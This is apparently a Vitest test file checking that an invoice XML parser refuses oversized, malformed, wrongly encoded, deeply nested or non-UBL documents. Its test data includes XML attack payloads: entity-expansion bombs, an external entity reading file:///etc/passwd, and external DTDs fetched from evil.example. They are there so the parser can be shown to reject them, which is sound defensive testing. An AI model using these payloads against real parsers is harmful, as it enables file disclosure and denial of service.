import { expect, test } from "vitest";
import { memoryBlobs } from "../../../test/fakes/memory-blobs.ts";
import { run } from "../extract.ts";
import { parseInvoice } from "../ubl/index.ts";
import { firstAttempt } from "./contexts.ts";
import { permanentFailure } from "./fails.ts";
import { fixture, fixtureText } from "./fixtures.ts";

const clean = fixtureText("invoices/clean.xml");
const parse = (text: string) => parseInvoice(new TextEncoder().encode(text));
const megabyteOf = (part: string) => part.repeat(1_000_000 / part.length);
const declaring = (entities: string) => clean.replace("?>", `?><!DOCTYPE Invoice [${entities}]>`);

test("a document of 50 MB is refused before it is loaded", async () => {
  const context = firstAttempt(memoryBlobs({ "s3://inbox/big.xml": new Uint8Array(50_000_000) }));
  await permanentFailure("blob-too-large", () => run({ invoiceId: "INV-1", document: "s3://inbox/big.xml" }, context));
});

test.each([
  ["billion laughs", fixtureText("broken/doctype-bomb.xml")],
  ["quadratic blowup", declaring(`<!ENTITY a "${"x".repeat(100_000)}">`).replace("NS-20411", "&a;".repeat(100_000))],
  ["an external entity", declaring('<!ENTITY a SYSTEM "file:///etc/passwd">').replace("NS-20411", "&a;")],
  ["an external parameter entity", declaring('<!ENTITY % a SYSTEM "https://evil.example/a.dtd">%a;')],
  ["an external subset", clean.replace("?>", '?><!DOCTYPE Invoice SYSTEM "https://evil.example/a.dtd">')],
  ["a DOCTYPE that declares nothing", clean.replace("?>", "?><!DOCTYPE Invoice>")],
])("%s is refused with its DOCTYPE", async (_name, text) => {
  await permanentFailure("invoice-doctype", () => parse(text));
});

test.each([
  ["nothing", ""],
  ["no XML", "Dear Sir or Madam, please find our invoice attached."],
  ["JSON", '{"Invoice":{}}'],
  ["an undeclared entity", clean.replace("NS-20411", "&number;")],
  ["a NUL byte", clean.replace("NS-20411", "NS\0-20411")],
  ["a NUL reference", clean.replace("NS-20411", "NS&#0;")],
  ["two roots", `${clean}<Invoice/>`],
  ["an unbound prefix", clean.replace("<cbc:ID>", "<zzz:ID>")],
  ["an unclosed DOCTYPE", `<!DOCTYPE Invoice [${megabyteOf('<!ENTITY a "b">')}`],
  ["a file that is cut off", clean.slice(0, -20)],
])("%s is not well-formed", async (_name, text) => {
  await permanentFailure("invoice-malformed", () => parse(text));
});

test.each([
  ["UTF-16", Buffer.from(`\ufeff${clean}`, "utf16le")],
  ["Latin-1 that claims to be UTF-8", Buffer.from(clean, "latin1")],
  ["Latin-1 that says so", fixture("broken/wrong-encoding.xml")],
  ["a declared encoding that is not the real one", Buffer.from(clean.replace("UTF-8", "UTF-16"))],
])("%s is refused", async (_name, bytes) => {
  await permanentFailure("invoice-encoding", () => parseInvoice(bytes));
});

test.each([
  ["deep nesting", "<a>".repeat(101)],
  ["nesting without end", megabyteOf("<a>")],
  ["half a million of elements and attributes together", `<a>${'<b c=""/>'.repeat(250_000)}</a>`],
])("%s is refused", async (_name, text) => {
  await permanentFailure("invoice-too-complex", () => parse(text));
});

test.each([
  ["another vocabulary", fixtureText("broken/not-ubl.xml"), "CrossIndustryInvoice"],
  ["an invoice of another namespace", fixtureText("broken/wrong-namespace.xml"), "urn:example:billing:Invoice-1"],
  ["an invoice of no namespace", "<Invoice/>", '"Invoice"'],
  ["another document of UBL", clean.replace(/Invoice(?=[ >])/g, "Order").replace("Invoice-2", "Order-2"), "Order-2"],
  ["a credit note in an invoice's namespace", clean.replace(/Invoice(?=[ >])/g, "CreditNote"), '"CreditNote"'],
  ["a name of megabytes", `<${"a".repeat(1_000_000)}/>`, "aaa…"],
])("%s is not UBL", async (_name, text, shown) => {
  const message = await permanentFailure("invoice-not-ubl", () => parse(text));
  expect(message).toContain(shown);
  expect(message.length).toBeLessThan(1_000);
});

test("a number of a million digits is refused, not computed with", async () => {
  await permanentFailure("invoice-invalid-value", () => parse(clean.replace(">400<", `>${"9".repeat(1_000_000)}<`)));
});

test.each([
  ["comments", megabyteOf("<!-- - -->")],
  ["white space", megabyteOf("\n")],
  ["elements that are not read", megabyteOf("<cbc:Note>a</cbc:Note>")],
])("a document with a megabyte of %s is read", (_name, padding) => {
  const next = "<cbc:DocumentCurrencyCode>";
  expect(parse(clean.replace(next, padding + next)).number).toBe("NS-20411");
});

test("an attachment of megabytes is measured, and its content goes nowhere", () => {
  const content = "QUJD".repeat(500_000);
  const text = fixtureText("invoices/with-attachments.xml").replace(/(filename="[^"]*">)[^<]*/, `$1${content}`);
  const invoice = parse(text);
  expect(invoice.attachments[0]).toEqual({ name: "delivery-note-5512.pdf", bytes: 1_500_000 });
  expect(JSON.stringify(invoice).length).toBeLessThan(5_000);
});
